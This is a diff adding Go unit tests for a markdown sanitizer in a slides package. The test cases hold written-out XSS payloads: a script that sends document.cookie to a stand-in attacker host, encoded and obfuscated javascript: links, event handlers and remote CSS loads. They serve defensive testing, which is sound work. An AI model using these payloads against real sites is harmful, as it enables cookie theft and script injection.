@@ -0,0 +1,122 @@
+package slides
+
+import "testing"
+
+func TestSanitizeMarkdown(t *testing.T) {
+	tests := []struct {
+		name     string
+		markdown string
+		want     string
+		removed  int
+	}{
+		{
+			name:     "script",
+			markdown: "# Slide\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n\nText",
+			want:     "# Slide\n\n\n\nText",
+			removed:  1,
+		},
+		{
+			name:     "iframe and unclosed embed",
+			markdown: "<IFRAME src=\"https://evil.example\">fallback</iframe> and <embed src=\"x.swf\">",
+			want:     " and ",
+			removed:  2,
+		},
+		{
+			name:     "stray closing tag and images",
+			markdown: "</script><img src=\"https://tracker.example/pixel.gif\"> text",
+			want:     " text",
+			removed:  2,
+		},
+		{
+			name:     "event handlers and script links",
+			markdown: "<a href=\"javascript:alert(1)\" onclick=\"steal()\">link</a> <div onmouseover='x()'>hover</div>",
+			want:     "<a>link</a> <div>hover</div>",
+			removed:  3,
+		},
+		{
+			name:     "encoded script links",
+			markdown: "<a href=\"jav&#x61;script:alert(1)\">one</a> <a href=\"java\tscript:alert(1)\">two</a> <a href=\"&#x0A;javascript:alert(1)\">three</a>",
+			want:     "<a>one</a> <a>two</a> <a>three</a>",
+			removed:  3,
+		},
+		{
+			name:     "attributes after a slash",
+			markdown: "<div/onclick=alert(1)>click</div> <a/href=\"javascript:alert(1)\">link</a>",
+			want:     "<div>click</div> <a>link</a>",
+			removed:  2,
+		},
+		{
+			name:     "attributes right after a quote",
+			markdown: "<span title=\"x\"onmouseover=\"x()\" data-on=\"1\">text</span>",
+			want:     "<span title=\"x\" data-on=\"1\">text</span>",
+			removed:  1,
+		},
+		{
+			name:     "links to other sites are kept",
+			markdown: "<a href=\"https://example.com\" title=\"Example\">site</a>",
+			want:     "<a href=\"https://example.com\" title=\"Example\">site</a>",
+		},
+		{
+			name:     "remote styles",
+			markdown: "<style>\n@import url('https://evil.example/x.css');\nsection { background: url(https://evil.example/bg.png) no-repeat; }\n</style>\n<span style=\"background: url('//evil.example/x.png')\">text</span>",
+			want:     "<style>\n\nsection { background: none no-repeat; }\n</style>\n<span style=\"background: none\">text</span>",
+			removed:  3,
+		},
+		{
+			name:     "remote background directives",
+			markdown: "---\nmarp: true\nbackgroundImage: url('https://evil.example/bg.png')\n---\n\n<!-- _backgroundImage: url(https://evil.example/bg.png) -->\n<!-- _backgroundImage: linear-gradient(#fff, #000) -->",
+			want:     "---\nmarp: true\n\n---\n\n<!--  -->\n<!-- _backgroundImage: linear-gradient(#fff, #000) -->",
+			removed:  2,
+		},
+		{
+			name:     "code, comments and icons are kept",
+			markdown: "```html\n<script src=\"app.js\"></script>\n```\n\nUse `<iframe>` to embed.\n\n<i class=\"fa-solid fa-rocket\"></i><br>\n\n<!-- Mention <script> tags -->",
+			want:     "```html\n<script src=\"app.js\"></script>\n```\n\nUse `<iframe>` to embed.\n\n<i class=\"fa-solid fa-rocket\"></i><br>\n\n<!-- Mention <script> tags -->",
+		},
+		{
+			name:     "quoted angle brackets",
+			markdown: "<a title=\">\" onclick=\"alert(1)\">link</a>",
+			want:     "<a title=\"&gt;\">link</a>",
+			removed:  1,
+		},
+		{
+			name:     "encoded remote styles",
+			markdown: "<span style=\"background:url(&quot;https://evil.example/x.png&quot;)\">a</span> <span style=\"background: \\75rl(//evil.example/x.png)\">b</span>",
+			want:     "<span style=\"background:none\">a</span> <span style=\"background: none\">b</span>",
+			removed:  2,
+		},
+		{
+			name:     "code in HTML blocks",
+			markdown: "<div>\n`<img src=x onerror=alert(1)>`\n</div>",
+			want:     "<div>\n``\n</div>",
+			removed:  1,
+		},
+		{
+			name:     "unsafe comments",
+			markdown: "<!-- a -- <img src=x onerror=alert(1)> -->",
+			want:     "< !-- a --  -->",
+			removed:  1,
+		},
+		{
+			name:     "text read as tags",
+			markdown: "if x<y then <custom onclick=\"x()\">, see <https://example.com>",
+			want:     "if x< y then < custom onclick=\"x()\">, see <https://example.com>",
+		},
+		{
+			name:     "comparisons in math",
+			markdown: "$0<x<1$ and $y>2$",
+			want:     "$0\\lt x\\lt 1$ and $y\\gt 2$",
+		},
+		{
+			name:     "markdown images are left to the layouts",
+			markdown: "![Chart](https://example.com/chart.png)",
+			want:     "![Chart](https://example.com/chart.png)",
+		},
+	}
+	for _, test := range tests {
+		got, removed := sanitizeMarkdown(test.markdown)
+		if got != test.want || removed != test.removed {
+			t.Errorf("%s: expected %q with %d removed, got %q with %d removed", test.name, test.want, test.removed, got, removed)
+		}
+	}
+}